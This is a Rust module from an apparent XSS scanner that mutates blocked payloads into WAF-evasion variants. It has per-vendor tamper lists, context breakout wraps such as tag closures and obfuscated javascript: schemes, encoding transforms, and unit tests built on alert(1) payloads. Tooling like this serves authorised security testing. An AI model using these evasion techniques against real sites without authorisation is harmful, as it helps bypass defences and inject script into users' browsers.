// Payload Mutation Engine
// Turns one blocked payload into a bounded set of evasion variants

use crate::xss::context::ContextHint;
use crate::xss::payloads::Payload;
use crate::xss::tamper;
use crate::xss::waf::{WafProfile, WafVendor};
use serde::Serialize;
use std::collections::HashSet;

pub const DEFAULT_MUTATION_CAP: usize = 30;

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct MutationCandidate {
    pub source: Payload,
    pub text: String,
    /// Names of the wraps and transforms applied, in order.
    pub technique_chain: Vec<String>,
}

/// Per-vendor transform subsets, tried before the generic set.
fn vendor_tampers(vendor: WafVendor) -> &'static [&'static str] {
    match vendor {
        WafVendor::Cloudflare => &["dotlessi", "ltgthex", "alerthex", "commentpadding"],
        WafVendor::ModSecurity => &["space2comment", "emptytagprefix", "equalarrow", "trailingspaces"],
        WafVendor::AwsWaf => &["ltgtpercent", "keywordbackslash", "semicolonpadding"],
        WafVendor::Akamai => &["space2tab", "equalhex", "lowercase", "uppercase"],
        WafVendor::Imperva => &["doubleurlencode", "keywordcomment", "space2slash"],
        WafVendor::F5BigIp => &["htmlhex", "randomcase", "space2newline"],
        WafVendor::FortiWeb => &["unicodeescape", "swapcase", "structuralcomment"],
        WafVendor::Barracuda => &["fullwidth", "space2unicode"],
        WafVendor::Sucuri => &["cyrillic", "zerowidth", "keywordcomment"],
    }
}

const ENCODINGS: &[&str] = &[
    "urlencode",
    "htmlhex",
    "swapcase",
    "doubleurlencode",
    "htmldecimal",
    "htmlnamed",
    "randomcase",
    "titlecase",
    "uppercase",
    "unicodeescape",
    "hexescape",
    "fullwidth",
    "cyrillic",
];

const NOISE: &[&str] = &[
    "keywordcomment",
    "space2slash",
    "zerowidth",
    "nullbytes",
    "structuralcomment",
    "slashcomment",
    "space2tab",
    "space2newline",
    "space2unicode",
    "space2comment",
];

/// Transforms layered on top of the first context wrap.
const COMPOSED: &[&str] = &["randomcase", "keywordcomment", "space2slash", "urlencode"];

/// Context wrap: name, text placed before the payload, text placed after.
type Wrap = (&'static str, &'static str, &'static str);

fn context_wraps(hint: ContextHint) -> &'static [Wrap] {
    match hint {
        ContextHint::HtmlBody => &[
            ("close-title", "</title>", ""),
            ("close-style", "</style>", ""),
            ("close-script", "</script>", ""),
            ("close-textarea", "</textarea>", ""),
            ("tag-gap", ">", "<"),
            ("div-wrap", "<div>", "</div>"),
        ],
        ContextHint::Attribute => &[
            ("dq-close", "\">", ""),
            ("sq-close", "'>", ""),
            ("bt-close", "`>", ""),
            ("dq-wrap", "\" ", " x=\""),
            ("sq-wrap", "' ", " x='"),
            ("bt-wrap", "` ", " x=`"),
            ("unquoted", " ", ""),
        ],
        ContextHint::JsString => &[
            ("dq-breakout", "\";", ";//"),
            ("sq-breakout", "';", ";//"),
            ("bt-breakout", "`;", ";//"),
            ("template-expr", "${", "}"),
            ("script-close", "</script>", ""),
        ],
        ContextHint::Url => &[
            ("js-scheme", "javascript:", ""),
            ("data-scheme", "data:text/html,", ""),
            ("entity-scheme", "jav&#x61;script:", ""),
            ("tab-scheme", "jav&#x09;ascript:", ""),
            ("newline-scheme", "java&#x0a;script:", ""),
            ("cr-scheme", "java&#x0d;script:", ""),
        ],
        ContextHint::Css => &[("close-style", "</style>", ""), ("css-close", "'}</style>", "")],
        ContextHint::Unknown => &[
            ("dq-close", "\">", ""),
            ("sq-close", "'>", ""),
            ("comment-close", "-->", ""),
            ("close-script", "</script>", ""),
        ],
    }
}

fn wrap(w: &Wrap, payload: &str) -> String {
    format!("{}{}{}", w.1, payload, w.2)
}

/// Bounded, deduplicated candidate generator.
#[derive(Debug, Clone)]
pub struct MutationEngine {
    cap: usize,
}

impl Default for MutationEngine {
    fn default() -> Self {
        Self::new(DEFAULT_MUTATION_CAP)
    }
}

struct Batch<'a> {
    source: &'a Payload,
    cap: usize,
    seen: HashSet<String>,
    out: Vec<MutationCandidate>,
}

impl<'a> Batch<'a> {
    fn full(&self) -> bool {
        self.out.len() >= self.cap
    }

    fn push(&mut self, text: String, chain: Vec<&str>) {
        if self.full() || text == self.source.text || !self.seen.insert(text.clone()) {
            return;
        }
        self.out.push(MutationCandidate {
            source: self.source.clone(),
            text,
            technique_chain: chain.into_iter().map(String::from).collect(),
        });
    }

    fn apply(&mut self, name: &str, input: &str, prefix: &[&str]) {
        if self.full() {
            return;
        }
        let Some(f) = tamper::get_tamper(name) else {
            return;
        };
        if let Some(text) = f(input) {
            let mut chain = prefix.to_vec();
            chain.push(name);
            self.push(text, chain);
        }
    }
}

impl MutationEngine {
    pub fn new(cap: usize) -> Self {
        Self { cap }
    }

    pub fn cap(&self) -> usize {
        self.cap
    }

    /// Variants of `payload` for `hint`, steered by the scan's WAF profile.
    /// Never more than `cap` entries, no duplicates, never the input itself.
    pub fn mutate(
        &self,
        payload: &Payload,
        hint: ContextHint,
        waf: &WafProfile,
    ) -> Vec<MutationCandidate> {
        let mut batch = Batch {
            source: payload,
            cap: self.cap,
            seen: HashSet::new(),
            out: Vec::new(),
        };
        let base = payload.text.as_str();

        if let Some(vendor) = waf.vendor() {
            for name in vendor_tampers(vendor) {
                batch.apply(name, base, &[]);
            }
        }

        let wraps = context_wraps(hint);
        for w in wraps {
            batch.push(wrap(w, base), vec![w.0]);
        }

        for name in ENCODINGS {
            batch.apply(name, base, &[]);
        }

        for name in NOISE {
            batch.apply(name, base, &[]);
        }

        if let Some(first) = wraps.first() {
            let wrapped = wrap(first, base);
            if let Some(vendor) = waf.vendor() {
                for name in vendor_tampers(vendor) {
                    batch.apply(name, &wrapped, &[first.0]);
                }
            }
            for name in COMPOSED {
                batch.apply(name, &wrapped, &[first.0]);
            }
        }

        batch.out
    }

}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::xss::payloads::PayloadCategory;
    use crate::xss::validate::Confidence;

    fn payload(text: &str) -> Payload {
        Payload::new(text, PayloadCategory::Basic)
    }

    fn texts(engine: &MutationEngine, p: &Payload, hint: ContextHint, waf: &WafProfile) -> Vec<String> {
        engine.mutate(p, hint, waf).into_iter().map(|c| c.text).collect()
    }

    fn vendor_profile(label: &str) -> WafProfile {
        WafProfile {
            vendor_label: label.to_string(),
            confidence: Confidence::High,
        }
    }

    #[test]
    fn test_no_duplicates_and_no_identity() {
        let p = payload("<script>alert(1)</script>");
        for hint in [
            ContextHint::HtmlBody,
            ContextHint::Attribute,
            ContextHint::JsString,
            ContextHint::Url,
            ContextHint::Css,
            ContextHint::Unknown,
        ] {
            let texts = texts(&MutationEngine::new(100), &p, hint, &WafProfile::generic());
            let unique: HashSet<&String> = texts.iter().collect();
            assert_eq!(unique.len(), texts.len(), "duplicates for {:?}", hint);
            assert!(!texts.contains(&p.text));
        }
    }

    #[test]
    fn test_cap_is_enforced() {
        let p = payload("<img src=x onerror=alert(1)>");
        for cap in [0, 1, 5, 20, 50] {
            let out = MutationEngine::new(cap).mutate(&p, ContextHint::Attribute, &vendor_profile("cloudflare"));
            assert!(out.len() <= cap);
        }
        let out = MutationEngine::new(5).mutate(&p, ContextHint::HtmlBody, &WafProfile::none());
        assert_eq!(out.len(), 5);
    }

    #[test]
    fn test_url_encoded_candidate_decodes_to_payload() {
        let p = payload("<svg onload=alert(1)>");
        let out = MutationEngine::default().mutate(&p, ContextHint::HtmlBody, &WafProfile::none());
        let encoded = out
            .iter()
            .find(|c| c.technique_chain == vec!["urlencode".to_string()])
            .expect("urlencode candidate");
        assert_eq!(urlencoding::decode(&encoded.text).unwrap(), p.text);
    }

    #[test]
    fn test_vendor_transforms_come_first() {
        let p = payload("<script>alert(1)</script>");
        let out = MutationEngine::default().mutate(&p, ContextHint::HtmlBody, &vendor_profile("cloudflare"));
        assert_eq!(out[0].technique_chain, vec!["dotlessi".to_string()]);
        assert_eq!(out[0].text, "<scrıpt>alert(1)</scrıpt>");
    }

    #[test]
    fn test_context_wraps() {
        let p = payload("alert(1)");
        let js = texts(&MutationEngine::default(), &p, ContextHint::JsString, &WafProfile::none());
        assert!(js.contains(&"\";alert(1);//".to_string()));
        assert!(js.contains(&"${alert(1)}".to_string()));

        let url = texts(&MutationEngine::default(), &p, ContextHint::Url, &WafProfile::none());
        assert!(url.contains(&"javascript:alert(1)".to_string()));
        assert!(url.contains(&"jav&#x61;script:alert(1)".to_string()));
    }

    #[test]
    fn test_failing_transform_is_skipped() {
        // hexescape cannot encode this, every other transform still runs
        let p = payload("<svg onload=alert('ſ')>");
        let out = MutationEngine::new(200).mutate(&p, ContextHint::HtmlBody, &WafProfile::none());
        assert!(out.iter().all(|c| c.technique_chain != vec!["hexescape".to_string()]));
        assert!(out.iter().any(|c| c.technique_chain == vec!["unicodeescape".to_string()]));
    }

    #[test]
    fn test_chains_record_composition() {
        let p = payload("<svg onload=alert(1)>");
        let out = MutationEngine::new(200).mutate(&p, ContextHint::HtmlBody, &WafProfile::none());
        assert!(out
            .iter()
            .any(|c| c.technique_chain == vec!["close-title".to_string(), "keywordcomment".to_string()]));
        assert!(out.iter().all(|c| c.source == p));
    }
}
